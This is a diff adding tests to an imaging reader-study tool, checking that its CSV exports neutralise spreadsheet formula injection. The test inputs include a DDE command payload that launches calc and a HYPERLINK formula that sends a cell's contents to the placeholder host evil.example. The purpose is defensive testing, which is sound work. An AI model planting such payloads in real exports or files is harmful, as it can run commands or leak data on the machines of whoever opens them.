@@ -144,3 +144,90 @@ def test_no_patient_identifiers_in_logs_or_warnings(tmp_path: Path, monkeypatch,
     assert "internal error ref=" in caplog.text and "kaputt" in caplog.text  # the logs are not just empty
     leaks = [word for word in IDENTIFIERS if word in logged]
     assert not leaks, f"identifiers {leaks} in logs:\n{logged[-3000:]}"
+
+
+# --- formula injection in every CSV export (issue 36) -----------------------------------------------
+
+def _no_formula_cells(rows: list[list[str]]) -> list[str]:
+    """Cells a spreadsheet would run as a formula (plain numbers such as -1.5 are numbers, not formulas)."""
+    from studio.csvsafe import FORMULA_START, needs_quote
+
+    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START) and needs_quote(cell)]
+
+
+def test_csv_cells_are_neutralised_but_numbers_stay_numbers() -> None:
+    import pandas as pd
+
+    from studio.csvsafe import safe_cell, safe_frame
+
+    for text in ("=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1", "\r=1", "-A1", "+inf", "=HYPERLINK(\"x\")"):
+        assert safe_cell(text) == "'" + text
+    for value in (-1, -2.5, 3, "-1.5", "+2", "-3e-05", ".5", "text", "", "a=b", "1-2", None):
+        assert safe_cell(value) == value
+    frame = pd.DataFrame({"model": ["=cmd|' /C calc'!A0", "edsr_x2"], "psnr": [-1.25, 30.0],
+                          "note": [None, "@evil"]})
+    text = safe_frame(frame).to_csv(index=False)
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1][:2] == ["'=cmd|' /C calc'!A0", "-1.25"] and rows[2][2] == "'@evil"
+    assert not _no_formula_cells(rows)
+    assert frame.loc[0, "model"].startswith("=")  # the caller's frame is untouched
+
+
+def test_reader_comment_is_text_in_answers_csv_and_the_analysis_tables(tmp_path: Path) -> None:
+    import csv
+
+    from studio import study
+    from studio.stats import analysis
+    from studio.study import reading
+    from studio.study.store import StudySettings, open_store
+
+    store = open_store(StudySettings(data_dir=tmp_path / "data", admin_password="pw"))
+    comments = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(A1)", "+1-1", "-2+3", "\tx"]
+    try:
+        created = study.create_study(store, study.StudyDesign(name="=cmd|' /C calc'!A0", design="both",
+                                                              models=("clahe",), readers=1, seed=1),
+                                     [_png(tmp_path / f"c{i}.png") for i in range(2)])
+        code = created.codes["R01"]
+        i = 0
+        while (view := reading.next_item(store, code)).status == "item":
+            if view.kind == "likert":
+                reading.submit_rating(store, code, view.item_key, {c: 3 for c in reading.CRITERIA},
+                                      comments[i % len(comments)])
+            else:
+                reading.submit_preference(store, code, view.item_key, "left", 3, comments[i % len(comments)])
+            i += 1
+        res = analysis.write_outputs(store.db, created.study_id, tmp_path / "out", n_boot=100)
+    finally:
+        store.close()
+    with open(tmp_path / "out" / "answers.csv", newline="", encoding="utf-8") as f:
+        answers = list(csv.DictReader(f))
+    assert answers and "'=1+1" in {a["comment"] for a in answers}
+    assert {a["study_name"] for a in answers} == {"'=cmd|' /C calc'!A0"}
+    for path in [p for p in res["files"] if p.suffix == ".csv"]:
+        with open(path, newline="", encoding="utf-8") as f:
+            rows = list(csv.reader(f))
+        assert not _no_formula_cells(rows), path.name
+
+
+def test_compare_metrics_csv_is_neutralised(tmp_path: Path) -> None:
+    import csv
+    import io
+    import zipfile
+
+    from studio import compare
+    from studio.compare import report
+
+    *_, run_id = compare.compare_file(_png(tmp_path / "in.png", 48), 0, "default", ["lanczos_x2"], "simulate",
+                                      None, "down_x2", 0)
+    run = compare.get_run(run_id)
+    run.notes["lanczos_x2"] = '=HYPERLINK("http://evil.example","click")'
+    out = tmp_path / "zips"
+    out.mkdir()
+    with zipfile.ZipFile(report.write_zip(run, out, 8, "report")) as z:
+        rows = list(csv.reader(io.StringIO(z.read("metrics.csv").decode())))
+    assert '\'=HYPERLINK("http://evil.example","click")' in rows[2]
+    assert not _no_formula_cells(rows)
+    assert float(rows[1][2]) > 0  # numbers are still numbers
